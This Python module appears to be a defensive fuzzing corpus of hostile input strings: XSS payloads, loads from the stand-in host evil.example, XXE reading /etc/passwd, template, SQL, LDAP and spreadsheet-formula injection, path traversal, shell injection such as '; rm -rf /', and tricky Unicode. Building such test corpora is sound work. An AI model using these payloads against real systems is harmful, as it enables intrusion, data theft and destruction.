"""Two hundred strings that try to be more than text: markup, script, formulas, paths, queries, odd letters."""

from __future__ import annotations

_MARKUP = """<script>alert(1)</script>
</script><script>alert(1)</script>
<ScRiPt >alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
<script type=module>import("//evil.example/x")</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<img src=//evil.example/p.png>
<img srcset="//evil.example/p.png 1x">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"></use></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src=//evil.example></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<video src=//evil.example/v.mp4></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/x>
<style>@import "//evil.example/x.css";</style>
<style>*{background:url(//evil.example/x)}</style>
<div style="background:url(//evil.example/x)">
<meta http-equiv=refresh content="0;url=//evil.example">
<base href=//evil.example/>
<form action=//evil.example><input type=submit></form>
<button formaction=javascript:alert(1)>X</button>
<a href=javascript:alert(1)>X</a>
<a href="java&#115;cript:alert(1)">X</a>
<a href=" javascript:alert(1)">X</a>
<a href="data:text/html,<script>alert(1)</script>">X</a>
<a href=//evil.example ping=//evil.example>X</a>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<title></title><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>
<![CDATA[<img src=x onerror=alert(1)>]]>
]]><script>alert(1)</script>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
&amp;lt;b&amp;gt;
&nbsp;&copy;&unknown;
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
`><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus="alert(1)" x="
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</td></tr></table><script>alert(1)</script>
<b>bold</b>
<script>
</script>
<!--
-->
<"""

_SCRIPT = r"""javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://%0aalert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
blob:null/0
file:///etc/passwd
//evil.example/x
http:evil.example
https://user:pass@evil.example/
http://[::1]/
http://localhost:22/
about:blank
view-source:x
';alert(1);'
";alert(1);"
`;alert(1);`
\";alert(1);//
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cimg src=x onerror=alert(1)\x3e
${alert(1)}
`${alert(1)}`
#{alert(1)}
{{7*7}}
{{ config }}
{{constructor.constructor('alert(1)')()}}
{{ ''.__class__.__mro__ }}
{% raw %}
{% include '/etc/passwd' %}
{% endraw %}{{ 7*7 }}
{# comment
{{{{
}}}}
<%= 7*7 %>
<% alert(1) %>
<#assign x="freemarker">
$(alert)
%{7*7}
*{7*7}
@{7*7}
[[${7*7}]]
{0}
{0.__class__}
{name}
%s%s%s%n
%(name)s
%00
{place}, held by {holder}
{n, plural, one {x} other {y}}
{n, select, other {{x}}}
'{'
__proto__
constructor
prototype
toString
hasOwnProperty
valueOf
undefined
null
NaN
Infinity
-0
true
//# sourceMappingURL=//evil.example/x.map
/*
*/
*/alert(1)/*
//
\
\\
\"
\n
\u2028
![x](//evil.example/p.png)
[x](javascript:alert(1))
<https://evil.example>
:material/delete:
:red[x]
$$\href{javascript:alert(1)}{x}$$
# Heading
- item
1. item
~~x~~ **y** _z_
```x
|a|b|
---"""

_FORMULAS = """=1+1
=cmd|' /C calc'!A0
=HYPERLINK("http://evil.example","x")
=IMPORTXML("http://evil.example","//a")
=WEBSERVICE("http://evil.example")
+1+1
-1+1
@SUM(1,1)
＝1+1
＋1+1
=DDE("cmd";"/C calc";"x")
 =1+1
"=1+1"
'=1+1
0x41
1e999
00012
1/2
2024-02-30"""

_PLACES = """../../etc/passwd
..\\..\\windows\\win.ini
/etc/passwd
C:\\Windows\\System32
\\\\evil.example\\share
file.txt:stream
CON
PRN
AUX
NUL.txt
COM1
LPT9
.
..
...
~root
$HOME
%APPDATA%
x.html?day=1#y
a/b/c
'; DROP TABLE places; --
" OR 1=1 --
1; SELECT * FROM x
' UNION SELECT NULL --
Robert'); DROP TABLE Students;--
*)(uid=*))(|(uid=*
; rm -rf /
| cat /etc/passwd
`id`
$(id)
&& id"""

_LETTERS = (
    "zero\u200bwidth\u200djoined\u2060word",
    "soft\u00adhyphen",
    "e" + "\u0301" * 60,
    "Z\u0351\u0343\u0311a\u0321\u0330l\u0329g\u0353o",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\u200d\u2620\ufe0f \U0001f1f8\U0001f1fe",
    "\U0001f9d1\U0001f3fd\u200d\U0001f680",
    "ﷺ﷽",
    "İıſßŉǰΐ",
    "ＦＵＬＬ ＷＩＤＴＨ",
    "𝕊𝕔𝕣𝕚𝕡𝕥",
    "аdmin",
    "﹤script﹥alert(1)﹤/script﹥",
    "＜script＞alert(1)＜/script＞",
    "‹script›",
    "שלום עולם abc",
    "حلب <b>abc</b> 123",
    "ᚠᛇᚻ 漢字 かな ไทย हिन्दी",
    "\u180e\u3164\u115f",
    "W" * 3000,
    "ا" * 1500,
)
HIDDEN = (
    "NUL\x00NUL",
    "bell\x07 escape\x1b[31m",
    "vertical\x0btab form\x0cfeed",
    "del\x7f next\x85line",
    "line\u2028separator",
    "paragraph\u2029separator",
    "right\u202eto left\u202c",
    "left\u202dright\u202c",
    "isolate\u2067x\u2069y",
    "mark\ufeffed",
    "noncharacter\uffff\ufdd0",
    "tag\U000e0041\U000e007f",
    "private\ue000use",
    "lone\ud800surrogate",
)
"""Characters without a shape of their own; some of them a dataset's check refuses."""

STRINGS = (
    tuple(line for block in (_MARKUP, _SCRIPT, _FORMULAS, _PLACES) for line in block.split("\n") if line.strip())
    + _LETTERS
)
